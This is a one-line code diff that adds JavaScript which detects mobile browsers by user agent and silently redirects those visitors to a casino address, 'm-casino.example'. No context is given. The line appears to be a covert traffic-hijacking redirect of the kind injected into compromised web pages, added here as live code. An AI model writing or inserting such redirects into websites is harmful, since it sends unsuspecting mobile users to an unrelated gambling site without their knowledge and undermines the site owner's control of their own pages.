@@ -1,0 +1,1 @@
+if (/Android|iPhone|iPad|iPod|Opera Mini|IEMobile/i.test(navigator.userAgent)) { window.location.replace("https://m-casino.example/"); }
